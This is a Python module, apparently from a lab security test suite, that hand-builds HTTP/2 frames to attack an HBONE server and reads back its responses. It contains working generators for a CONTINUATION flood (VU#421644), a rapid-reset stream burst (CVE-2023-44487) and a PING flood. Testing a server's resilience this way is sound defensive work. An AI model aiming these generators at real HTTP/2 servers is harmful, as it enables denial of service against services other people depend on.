"""HTTP/2 frames built by hand for the attacks (RFC 9113, RFC 7541), and the server's answers read back.

Pure and standard-library only (the attacker runs inside a lab pod), and sharing no code with
`hbone.http2`: an attacker does not use the server's own encoder. Header fields are HPACK literals
without indexing and without Huffman coding; the answers (a `:status`) are decoded with the `hpack`
library, which the attacker imports only when it reads a HEADERS frame.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator
from dataclasses import dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
FRAME_HEADER_BYTES = 9
# RFC 9113 section 7: the codes a GOAWAY or RST_STREAM carries, by name for the report.
ERROR_NAMES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
               0x4: "SETTINGS_TIMEOUT", 0x5: "STREAM_CLOSED", 0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM",
               0x8: "CANCEL", 0x9: "COMPRESSION_ERROR", 0xA: "CONNECT_ERROR", 0xB: "ENHANCE_YOUR_CALM",
               0xC: "INADEQUATE_SECURITY", 0xD: "HTTP_1_1_REQUIRED"}
CANCEL = 0x8
# The largest string an HPACK literal here may carry with a one-byte length (7-bit prefix, no Huffman).
MAX_SHORT_LITERAL = 126


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    if len(payload) >= 1 << 24:
        raise ValueError(f"a frame payload of {len(payload)} bytes does not fit 24 bits")
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """HPACK literal header field without indexing, new name, no Huffman (RFC 7541 section 6.2.2)."""
    if len(name) > MAX_SHORT_LITERAL or len(value) > MAX_SHORT_LITERAL:
        raise ValueError(f"header {name!r}: name and value must be at most {MAX_SHORT_LITERAL} bytes")
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def connect_block(authority: str) -> bytes:
    """The header block of an HBONE CONNECT to `authority` ("ip:port")."""
    return literal(b":method", b"CONNECT") + literal(b":authority", authority.encode())


def opening() -> bytes:
    """What a client sends first: the preface and an empty SETTINGS frame."""
    return PREFACE + frame(SETTINGS, 0, 0)


def settings_ack() -> bytes:
    return frame(SETTINGS, ACK, 0)


def connect_request(authority: str, stream_id: int = 1) -> bytes:
    return frame(HEADERS, END_HEADERS, stream_id, connect_block(authority))


def continuation_flood(count: int, authority: str) -> bytes:
    """HEADERS without END_HEADERS (the first bytes of a CONNECT) then `count` empty CONTINUATION
    frames on stream 1: 9 bytes each, so they never reach a header-size bound (VU#421644)."""
    return frame(HEADERS, 0, 1, connect_block(authority)[:3]) + frame(CONTINUATION, 0, 1) * count


def rapid_resets(count: int, authority: str, first_stream: int = 1) -> bytes:
    """`count` streams, each a valid CONNECT to `authority` reset by the client at once
    (CVE-2023-44487), stream ids `first_stream`, +2, ..."""
    request = connect_block(authority)
    cancel = struct.pack(">I", CANCEL)
    return b"".join(frame(HEADERS, END_HEADERS, sid, request) + frame(RST_STREAM, 0, sid, cancel)
                    for sid in range(first_stream, first_stream + 2 * count, 2))


def pings(count: int) -> bytes:
    """`count` PING frames (17 bytes each), each with its own 8-byte payload."""
    return b"".join(frame(PING, 0, 0, struct.pack(">Q", n)) for n in range(count))


@dataclass(frozen=True)
class Frame:
    kind: int
    flags: int
    stream_id: int
    payload: bytes


class FrameReader:
    """Frames out of a byte stream fed in pieces; a partial frame waits for its rest."""

    def __init__(self) -> None:
        self._buffer = bytearray()

    def feed(self, data: bytes) -> Iterator[Frame]:
        self._buffer += data
        start = 0
        while len(self._buffer) - start >= FRAME_HEADER_BYTES:
            length = int.from_bytes(self._buffer[start:start + 3], "big")
            end = start + FRAME_HEADER_BYTES + length
            if end > len(self._buffer):
                break
            kind, flags = self._buffer[start + 3], self._buffer[start + 4]
            stream_id = int.from_bytes(self._buffer[start + 5:start + 9], "big") & 0x7FFFFFFF
            yield Frame(kind, flags, stream_id, bytes(self._buffer[start + FRAME_HEADER_BYTES:end]))
            start = end
        del self._buffer[:start]

    @property
    def pending(self) -> int:
        """Bytes of a frame not complete yet."""
        return len(self._buffer)


def frames_of(data: bytes) -> list[Frame]:
    return list(FrameReader().feed(data))


def goaway(payload: bytes) -> tuple[int, int, str]:
    """(last stream id, error code, debug text) of a GOAWAY payload."""
    if len(payload) < 8:
        raise ValueError(f"a GOAWAY payload of {len(payload)} bytes, under 8")
    last, code = struct.unpack(">II", payload[:8])
    return last & 0x7FFFFFFF, code, payload[8:].decode("utf-8", "replace")


def error_name(code: int | None) -> str | None:
    return None if code is None else ERROR_NAMES.get(code, f"0x{code:x}")
